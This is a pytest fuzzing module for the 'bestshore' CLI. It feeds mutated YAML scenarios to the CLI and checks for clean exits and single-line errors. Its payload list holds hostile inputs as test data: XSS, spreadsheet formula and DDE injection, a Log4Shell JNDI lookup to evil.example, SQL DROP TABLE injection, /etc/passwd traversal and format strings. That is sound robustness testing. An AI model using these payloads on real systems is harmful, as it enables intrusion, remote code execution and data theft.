"""Random mutations of valid scenarios: the CLI answers 0, 2 or 3 with at most one stderr line.

Issue 15: numbers are mutated to extremes (1e300, 5e-324, -0.0, huge integers, ...) and text
to injection payloads (script, formula, control characters, paths, format strings), one
leaf at a time, in the demo (validated) and in the tiny example (solved). Whatever a
mutation does, the command may accept it (0), refuse it in one line (2) or find no plan
(3); an internal error (1), a traceback or a second stderr line fails. Seeded: the same
cases every run; ``BESTSHORE_LONG_FUZZ=1`` runs ten times as many.
"""

from __future__ import annotations

import copy
import os
import random
from pathlib import Path
from typing import Any

import pytest
import yaml
from typer.testing import CliRunner

from bestshore.cli import app
from bestshore.examples import tiny
from bestshore.scenario.loader import read_scenario_data

ROOT = Path(__file__).resolve().parents[1]
SCALE = 10 if os.environ.get("BESTSHORE_LONG_FUZZ") == "1" else 1
EXTREME_NUMBERS: list[Any] = [
    1e300,
    -1e300,
    1e308,
    5e-324,
    -5e-324,
    -0.0,
    0,
    -1,
    2**63,
    -(2**63),
    10**30,
    10**400,
    0.1,
    1e-9,
    3.5,
    True,
]
PAYLOADS = [
    "</script><script>alert(1)</script>",
    '=HYPERLINK("http://evil.example/","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd",
    "-2+3",
    "\x07bell\nerror: forged line",
    "\r\nerror: forged",
    "\u2028\u2029",
    "\x1b[31mred\x1b[0m",
    "../../../../etc/passwd",
    "/dev/zero",
    "%s%s%s%n",
    "{0.__class__}",
    "${jndi:ldap://evil.example/a}",
    "'; DROP TABLE sites; --",
    "x" * 10_000,
    "",
    " ",
    "NO",
    "5:30",
    "012",
    "null",
    "é\u0301\u200b\ufeff",
]


def _leaves(node: Any, here: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    if isinstance(node, dict):
        return [leaf for key, value in node.items() for leaf in _leaves(value, (*here, key))]
    if isinstance(node, list):
        return [leaf for i, value in enumerate(node) for leaf in _leaves(value, (*here, i))]
    return [here]


def _mutated(data: dict[str, Any], rng: random.Random) -> tuple[dict[str, Any], str]:
    data = copy.deepcopy(data)
    path = rng.choice(_leaves(data))
    node: Any = data
    for part in path[:-1]:
        node = node[part]
    old = node[path[-1]]
    if isinstance(old, bool) or not isinstance(old, int | float):
        new: Any = rng.choice(PAYLOADS if rng.random() < 0.8 else EXTREME_NUMBERS)
    else:
        new = rng.choice(EXTREME_NUMBERS if rng.random() < 0.85 else PAYLOADS)
    node[path[-1]] = new
    return data, f"{path} = {new!r:.60}"


def _check(result: Any, what: str) -> None:
    assert result.exit_code in (0, 2, 3), f"{what}: exit {result.exit_code}: {result.output}"
    assert "Traceback" not in result.output, what
    assert result.stderr.count("\n") <= 1, f"{what}: {result.stderr!r}"
    if result.exit_code == 2:
        assert result.stderr.startswith("error: "), what


def _write(tmp_path: Path, data: dict[str, Any], i: int) -> Path:
    path = tmp_path / f"m{i}.yaml"
    path.write_text(yaml.safe_dump(data, sort_keys=False, allow_unicode=True), encoding="utf-8")
    return path


def test_mutated_demo_validates_or_is_refused_in_one_line(tmp_path: Path) -> None:
    data, _ = read_scenario_data(ROOT / "scenarios" / "demo.yaml")
    rng = random.Random(15)
    runner = CliRunner()
    codes = {0: 0, 2: 0, 3: 0}
    for i in range(150 * SCALE):
        mutated, what = _mutated(data, rng)
        result = runner.invoke(app, ["validate", str(_write(tmp_path, mutated, i))])
        _check(result, what)
        codes[result.exit_code] += 1
    assert codes[2] > 50 and codes[0] > 10, codes  # both outcomes are exercised


@pytest.mark.parametrize("seed", range(4))
def test_mutated_tiny_scenario_solves_or_is_refused_in_one_line(seed: int, tmp_path: Path) -> None:
    rng = random.Random(100 + seed)
    runner = CliRunner()
    for i in range(12 * SCALE):
        mutated, what = _mutated(tiny(), rng)
        result = runner.invoke(app, ["solve", str(_write(tmp_path, mutated, i))])
        _check(result, what)
